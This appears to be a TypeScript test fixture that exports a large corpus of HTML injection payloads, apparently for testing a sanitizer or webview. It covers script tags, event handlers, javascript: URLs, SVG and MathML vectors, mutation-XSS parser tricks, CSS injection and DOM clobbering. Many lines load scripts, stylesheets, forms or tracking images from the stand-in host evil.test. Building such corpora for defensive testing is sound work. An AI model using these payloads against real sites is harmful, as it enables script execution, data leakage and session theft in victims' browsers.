/** Elements, styles, foreign content and mutations, one payload a line. A payload that runs calls `xss()`. */

const html = String.raw`
<script>xss()</script>
<SCRIPT>xss()</SCRIPT>
<scr<script>ipt>xss()</scr</script>ipt>
<script src=//evil.test/x.js></script>
<script/src=data:,xss()></script>
<script type=module>xss()</script>
<script>/*</script><script>xss()/*
"><script>xss()</script>
'><script>xss()</script>
</textarea><script>xss()</script>
</title><script>xss()</script>
</style><script>xss()</script>
--><script>xss()</script>
<!--><script>xss()</script>
<![CDATA[<script>xss()</script>]]>
<?xml version="1.0"?><script>xss()</script>
<img src=x onerror=xss()>
<img src=x onerror="xss()">
<IMG SRC=x OnErRoR=xss()>
<img/src=x/onerror=xss()>
<img src="x"onerror="xss()">
<img src=x onerror=&#120;&#115;&#115;&#40;&#41;>
<img src=//evil.test/p.png>
<img srcset="//evil.test/a.png 1x, //evil.test/b.png 2x">
<img src=x lowsrc=//evil.test/p.png dynsrc=//evil.test/q.png>
<img src="javascript:xss()">
<img src=data:image/svg+xml,<svg/onload=xss()>>
<picture><source srcset=//evil.test/p.png><img src=x></picture>
<image src=x onerror=xss()>
<body onload=xss()>
<body background=//evil.test/p.png>
<frameset onload=xss()>
<iframe src=javascript:xss()></iframe>
<iframe srcdoc="<script>parent.xss()</script>"></iframe>
<iframe src=//evil.test></iframe>
<object data=javascript:xss()></object>
<object data=//evil.test/x.swf></object>
<embed src=javascript:xss()>
<embed src=//evil.test/x.swf>
<applet code=//evil.test/x.class></applet>
<link rel=stylesheet href=//evil.test/x.css>
<link rel=preload as=image href=//evil.test/p.png>
<link rel=dns-prefetch href=//evil.test>
<link rel=import href=//evil.test/x.html>
<base href=//evil.test/>
<meta http-equiv=refresh content="0;url=javascript:xss()">
<meta http-equiv=refresh content="0;url=//evil.test">
<meta http-equiv=Content-Security-Policy content="default-src *">
<form action=//evil.test><input type=submit autofocus></form>
<form><button formaction=javascript:xss()>x</button></form>
<form id=x></form><button form=x formaction=javascript:xss()>x</button>
<input autofocus onfocus=xss()>
<input type=image src=//evil.test/p.png>
<select autofocus onfocus=xss()>
<textarea autofocus onfocus=xss()>
<keygen autofocus onfocus=xss()>
<button onclick=xss() autofocus>x</button>
<details open ontoggle=xss()>x</details>
<marquee onstart=xss()>x</marquee>
<video src=x onerror=xss()></video>
<video poster=//evil.test/p.png></video>
<video><source onerror=xss() src=x></video>
<audio src=//evil.test/a.mp3 autoplay onerror=xss()></audio>
<track src=//evil.test/t.vtt default>
<bgsound src=//evil.test/a.mid>
<div onmouseover=xss()>x</div>
<div onpointerenter=xss() style=position:fixed;inset:0>x</div>
<div onanimationstart=xss() style=animation:appear>x</div>
<div ontransitionend=xss()>x</div>
<div tabindex=1 autofocus onfocus=xss()>x</div>
<div contenteditable oncut=xss()>x</div>
<div popover ontoggle=xss()>x</div>
<dialog open onclose=xss()>x</dialog>
<a href=javascript:xss()>x</a>
<a href="jav&#x09;ascript:xss()">x</a>
<a href=//evil.test ping=//evil.test/ping>x</a>
<a href=https://evil.test target=_top>x</a>
<area href=javascript:xss()>
<map name=x><area href=javascript:xss() shape=default></map>
<xss onclick=xss() tabindex=1>x</xss>
<slot onslotchange=xss()></slot>
<portal src=//evil.test></portal>
<fencedframe src=//evil.test></fencedframe>
<plaintext>
<xmp><script>xss()</script></xmp>
<noscript><p title="</noscript><img src=x onerror=xss()>">
<noembed><img title="</noembed><img src=x onerror=xss()>">
<template><script>xss()</script></template>
<template shadowrootmode=open><script>xss()</script></template>
<tk-button onclick=xss()>x</tk-button>
<nonce nonce=x><script nonce=bm9uY2U>xss()</script>
<script nonce="bm9uY2U">xss()</script>
<style nonce="bm9uY2U">*{display:none}</style>
`;

const styles = String.raw`
<style>*{display:none}</style>
<style>@import '//evil.test/x.css';</style>
<style>body{background:url(//evil.test/p.png)}</style>
<style>@font-face{font-family:x;src:url(//evil.test/f.woff)}*{font-family:x}</style>
<div style="position:fixed;inset:0;background:red;z-index:9999">x</div>
<div style=background:url(//evil.test/p.png)>x</div>
<div style="width:expression(xss())">x</div>
<div style="behavior:url(//evil.test/x.htc)">x</div>
<div style=-moz-binding:url(//evil.test/x.xml)>x</div>
<p style="margin-top:-9999px">x</p>
<p class="jump sr failed">x</p>
<p id=root class=chat>x</p>
<span class="codicon codicon-close">x</span>
<table width=99999 height=99999 background=//evil.test/p.png><td>x
<font size=7 color=red face=x>x</font>
<center><h1>x</h1></center>
<hr size=9999 width=9999>
`;

const foreign = String.raw`
<svg onload=xss()>
<svg/onload=xss()//
<svg><script>xss()</script></svg>
<svg><script href=data:,xss() />
<svg><script>&#120;&#115;&#115;&#40;&#41;</script></svg>
<svg><animate onbegin=xss() attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:xss()>
<svg><a xlink:href=javascript:xss()><text x=20 y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:xss() /><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>xss()</script></svg>#x"/></svg>
<svg><use xlink:href=//evil.test/x.svg#x></svg>
<svg><image href=//evil.test/p.png></svg>
<svg><feImage href=//evil.test/p.png></svg>
<svg><foreignObject><iframe src=javascript:xss()></foreignObject></svg>
<svg><style>*{display:none}</style></svg>
<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>xss()</handler></svg>
<svg><title><img src=x onerror=xss()></title></svg>
<svg><desc><img src=x onerror=xss()></desc></svg>
<math href=javascript:xss()>x</math>
<math><maction actiontype=statusline xlink:href=javascript:xss()>x</maction></math>
<math><annotation-xml encoding=text/html><script>xss()</script></annotation-xml></math>
<math><mi//xlink:href="data:x,<script>xss()</script>">
`;

const mutation = String.raw`
<svg></p><style><a id="</style><img src=1 onerror=xss()>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=1 onerror=xss()>">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=xss() src>">
<svg><style><img title="</style><img src=x onerror=xss()>"></svg>
<noscript><style></noscript><img src=x onerror=xss()>
<listing>&lt;img onerror=xss() src=x&gt;</listing>
<style><style/><img src=x onerror=xss()>
<table><caption><svg><foreignobject><table><caption><svg><style><!--</style><img src=x onerror=xss()>-->
<a title="<svg><style></a><img src=x onerror=xss()>">
<textarea><svg><style></textarea><img src=x onerror=xss()>
<svg><p><style><g title="</style><img src=x onerror=xss()>">
<select><template><img src=x onerror=xss()></template></select>
<p>&lt;img src=x onerror=xss()&gt;
&lt;script&gt;xss()&lt;/script&gt;
&amp;lt;img src=x onerror=xss()&amp;gt;
&#60;img src=x onerror=xss()&#62;
\x3cimg src=x onerror=xss()\x3e
\u003cimg src=x onerror=xss()\u003e
%3Cimg%20src=x%20onerror=xss()%3E
+ADw-script+AD4-xss()+ADw-/script+AD4-
<a id=attributes><a id=parentNode name=removeChild>
<form id=x><input name=attributes><input name=nodeName></form>
<img name=currentScript><img name=fakeHost><a id=acquireVsCodeApi>
<input name=__proto__><a id=constructor><a id=prototype>
`;

/** One by one. */
export const htmlPayloads: readonly string[] = [html, styles, foreign, mutation].flatMap((text) =>
  text.split('\n').filter((line) => line !== ''),
);
